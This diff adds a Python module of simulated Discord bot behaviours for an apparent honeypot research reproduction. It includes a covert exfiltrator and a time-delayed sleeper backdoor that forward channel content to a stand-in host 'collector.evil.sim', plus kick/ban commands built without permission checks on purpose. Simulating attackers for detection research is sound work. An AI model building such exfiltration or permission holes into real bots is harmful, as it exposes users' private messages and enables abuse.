@@ -1,0 +1,326 @@
+"""A library of chatbot behaviours.
+
+The honeypot experiment needs a population of bots that *do things*:
+benign feature bots, bots whose privileged commands skip user-permission
+checks (re-delegation vulnerable), bots whose declared functionality
+involves opening URLs (benign trigger pressure), covert exfiltrators, and
+the paper's "Melonian" case — an operator who logs in *as the bot*, skims
+the channel, opens posted files and leaves a very human message.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+from repro.discordsim.api import ApiError
+from repro.discordsim.bot import BotRuntime, CommandContext, requires_user_permissions
+from repro.discordsim.guild import GuildError
+from repro.discordsim.models import Message
+from repro.discordsim.permissions import Permission
+from repro.discordsim.platform import DiscordPlatform
+from repro.web.network import VirtualInternet
+
+#: Behaviour kind identifiers used by the ecosystem generator.
+BENIGN = "benign"
+MODERATION_CHECKED = "moderation_checked"
+MODERATION_UNCHECKED = "moderation_unchecked"
+LINK_PREVIEW = "link_preview"
+EXFILTRATOR = "exfiltrator"
+NOSY_OPERATOR = "nosy_operator"
+#: Benign until a delay elapses, then sweeps channel history and
+#: exfiltrates — the threat-model case of developers silently altering
+#: backend code *after* installation (and after any vetting window).
+SLEEPER = "sleeper"
+
+ALL_BEHAVIORS = (
+    BENIGN,
+    MODERATION_CHECKED,
+    MODERATION_UNCHECKED,
+    LINK_PREVIEW,
+    EXFILTRATOR,
+    NOSY_OPERATOR,
+    SLEEPER,
+)
+
+#: Behaviours whose *unsolicited* access to channel resources would fire
+#: canary tokens (ground truth for honeypot evaluation).
+INVASIVE_BEHAVIORS = frozenset({EXFILTRATOR, NOSY_OPERATOR, SLEEPER})
+
+#: Default dormancy before a sleeper turns: one week, comfortably past the
+#: paper's observation horizon.
+SLEEPER_WAKE_AFTER = 7 * 86_400.0
+
+
+@dataclass
+class OperatorActionLog:
+    """What a nosy operator did during a manual inspection session."""
+
+    messages_read: int = 0
+    urls_visited: list[str] = field(default_factory=list)
+    files_opened: list[str] = field(default_factory=list)
+    posted: list[str] = field(default_factory=list)
+
+
+def build_runtime(
+    platform: DiscordPlatform,
+    bot_user_id: int,
+    behavior: str,
+    internet: VirtualInternet | None = None,
+    prefix: str = "!",
+    exfil_host: str | None = None,
+) -> BotRuntime:
+    """Construct a started :class:`BotRuntime` exhibiting ``behavior``."""
+    runtime = BotRuntime(platform, bot_user_id, prefix=prefix, internet=internet)
+    if behavior in (BENIGN, NOSY_OPERATOR):
+        _install_benign_commands(runtime)
+    elif behavior == MODERATION_CHECKED:
+        _install_benign_commands(runtime)
+        _install_moderation(runtime, checked=True)
+    elif behavior == MODERATION_UNCHECKED:
+        _install_benign_commands(runtime)
+        _install_moderation(runtime, checked=False)
+    elif behavior == LINK_PREVIEW:
+        _install_benign_commands(runtime)
+        _install_link_preview(runtime)
+    elif behavior == EXFILTRATOR:
+        _install_benign_commands(runtime)
+        _install_exfiltrator(runtime, exfil_host or "collector.evil.sim")
+    elif behavior == SLEEPER:
+        _install_benign_commands(runtime)
+        _install_sleeper(runtime, exfil_host or "collector.evil.sim", SLEEPER_WAKE_AFTER)
+    else:
+        raise ValueError(f"unknown behavior: {behavior!r}")
+    runtime.start()
+    return runtime
+
+
+# ---------------------------------------------------------------------------
+# Command sets
+# ---------------------------------------------------------------------------
+
+
+def _install_benign_commands(runtime: BotRuntime) -> None:
+    """The feature set every bot advertises: info, ping, poll."""
+
+    @runtime.command("info", "Show bot information")
+    def info(context: CommandContext) -> None:
+        count = context.api.guild_count()
+        context.reply(f"I am serving {count} guild(s). Try !ping or !poll.")
+
+    @runtime.command("ping", "Health check")
+    def ping(context: CommandContext) -> None:
+        context.reply("pong")
+
+    @runtime.command("poll", "Start a quick poll")
+    def poll(context: CommandContext) -> None:
+        question = " ".join(context.args) or "yes or no?"
+        context.reply(f"Poll started: {question} React to vote!")
+
+
+def _install_moderation(runtime: BotRuntime, checked: bool) -> None:
+    """Kick/ban commands, with or without the user-permission guard.
+
+    The unchecked variant is the re-delegation vulnerability: *any* user with
+    SEND_MESSAGES can have the (privileged) bot kick someone.
+    """
+
+    def kick_impl(context: CommandContext) -> None:
+        if not context.args:
+            context.reply("usage: !kick <user_id>")
+            return
+        try:
+            context.api.kick_member(context.guild_id, int(context.args[0]), reason="bot command")
+            context.reply(f"kicked {context.args[0]}")
+        except (GuildError, ValueError) as error:
+            context.reply(f"cannot kick: {error}")
+
+    def ban_impl(context: CommandContext) -> None:
+        if not context.args:
+            context.reply("usage: !ban <user_id>")
+            return
+        try:
+            context.api.ban_member(context.guild_id, int(context.args[0]), reason="bot command")
+            context.reply(f"banned {context.args[0]}")
+        except (GuildError, ValueError) as error:
+            context.reply(f"cannot ban: {error}")
+
+    if checked:
+        kick_impl = requires_user_permissions(Permission.KICK_MEMBERS)(kick_impl)
+        ban_impl = requires_user_permissions(Permission.BAN_MEMBERS)(ban_impl)
+    runtime.command("kick", "Kick a member")(kick_impl)
+    runtime.command("ban", "Ban a member")(ban_impl)
+
+
+def _install_link_preview(runtime: BotRuntime) -> None:
+    """Declared functionality that opens URLs posted in chat.
+
+    This is the benign-trigger case the honeypot methodology must reason
+    about: "a chatbot should not be interacting with a token posted in a
+    channel *unless it is part of its functionality*".
+    """
+
+    def preview(bot: BotRuntime, message: Message) -> None:
+        for url in message.urls()[:3]:
+            try:
+                response = bot.api.visit_url(url)
+            except ApiError:
+                continue
+            title = _extract_title(response.body)
+            if title:
+                try:
+                    bot.api.send_message(message.guild_id, message.channel_id, f"Preview: {title}")
+                except GuildError:
+                    pass
+
+    runtime.add_listener(preview)
+
+
+def _install_exfiltrator(runtime: BotRuntime, exfil_host: str) -> None:
+    """Covertly forward observed channel content to the developer's server."""
+
+    def exfiltrate(bot: BotRuntime, message: Message) -> None:
+        if bot.api.internet is None or not bot.api.internet.knows(exfil_host):
+            return
+        try:
+            bot.api.visit_url(f"https://{exfil_host}/collect?content={message.content[:80]}")
+        except ApiError:
+            pass
+        for url in message.urls():
+            try:
+                bot.api.visit_url(url)
+            except ApiError:
+                pass
+        for attachment in message.attachments:
+            bot.api.open_attachment(attachment)
+        for address in message.email_addresses():
+            bot.api.send_email(address, "newsletter")
+
+    runtime.add_listener(exfiltrate)
+
+
+def _install_sleeper(runtime: BotRuntime, exfil_host: str, wake_after: float) -> None:
+    """Dormant backdoor: benign until ``wake_after`` seconds pass, then one
+    full history sweep per guild (URLs visited, documents opened, emails
+    harvested, content forwarded)."""
+    armed_at = runtime.platform.clock.now()
+    swept_guilds: set[int] = set()
+
+    def maybe_wake(bot: BotRuntime) -> None:
+        if bot.platform.clock.now() - armed_at < wake_after:
+            return
+        if bot.api.internet is None or not bot.api.internet.knows(exfil_host):
+            return
+        for guild_id in list(bot.platform.users[bot.bot_user_id].guild_ids):
+            if guild_id in swept_guilds:
+                continue
+            swept_guilds.add(guild_id)
+            guild = bot.platform.guilds.get(guild_id)
+            if guild is None:
+                continue
+            for channel in guild.text_channels():
+                try:
+                    history = bot.api.read_history(guild_id, channel.channel_id)
+                except GuildError:
+                    continue
+                for message in history:
+                    try:
+                        bot.api.visit_url(f"https://{exfil_host}/collect?content={message.content[:80]}")
+                    except ApiError:
+                        pass
+                    for url in message.urls():
+                        try:
+                            bot.api.visit_url(url)
+                        except ApiError:
+                            pass
+                    for attachment in message.attachments:
+                        bot.api.open_attachment(attachment)
+                    for address in message.email_addresses():
+                        bot.api.send_email(address, "newsletter")
+
+    runtime.add_tick_handler(maybe_wake)
+
+
+def _extract_title(html: str) -> str:
+    lower = html.lower()
+    start = lower.find("<title>")
+    if start < 0:
+        return ""
+    end = lower.find("</title>", start)
+    return html[start + 7 : end].strip() if end > start else ""
+
+
+# ---------------------------------------------------------------------------
+# The operator-logs-in-as-the-bot case (Melonian)
+# ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class OperatorProfile:
+    """Per-artifact curiosity of a nosy operator.
+
+    The defaults reproduce the Melonian incident: the operator clicked the
+    posted URL and opened the Word document, but left the PDF and the email
+    address alone.
+    """
+
+    url_curiosity: float = 1.0
+    docx_curiosity: float = 1.0
+    pdf_curiosity: float = 0.0
+    email_curiosity: float = 0.0
+
+
+def operator_inspection(
+    runtime: BotRuntime,
+    guild_id: int,
+    rng: random.Random,
+    profile: OperatorProfile | None = None,
+    post_comment: bool = True,
+) -> OperatorActionLog:
+    """Simulate a developer logging in as the bot and poking around.
+
+    Mirrors the Melonian incident: message history is skimmed, a posted URL
+    and Word document are opened "without authorization", and a distinctly
+    non-automated message is posted *as the bot*.
+    """
+    profile = profile or OperatorProfile()
+    log = OperatorActionLog()
+    guild = runtime.platform.guilds.get(guild_id)
+    if guild is None or runtime.bot_user_id not in guild.members:
+        return log
+    for channel in guild.text_channels():
+        try:
+            history = runtime.api.read_history(guild_id, channel.channel_id)
+        except GuildError:
+            continue
+        log.messages_read += len(history)
+        for message in history:
+            for url in message.urls():
+                if rng.random() < profile.url_curiosity:
+                    try:
+                        runtime.api.visit_url(url)
+                        log.urls_visited.append(url)
+                    except ApiError:
+                        pass
+            for attachment in message.attachments:
+                curiosity = (
+                    profile.docx_curiosity if attachment.extension in ("doc", "docx") else profile.pdf_curiosity
+                )
+                if rng.random() < curiosity:
+                    try:
+                        runtime.api.open_attachment(attachment)
+                        log.files_opened.append(attachment.filename)
+                    except ApiError:
+                        pass
+            for address in message.email_addresses():
+                if rng.random() < profile.email_curiosity:
+                    runtime.api.send_email(address, "hello")
+    if post_comment and log.files_opened:
+        for channel in guild.text_channels():
+            try:
+                runtime.api.send_message(guild_id, channel.channel_id, "wtf is this bro")
+                log.posted.append("wtf is this bro")
+                break
+            except GuildError:
+                continue
+    return log
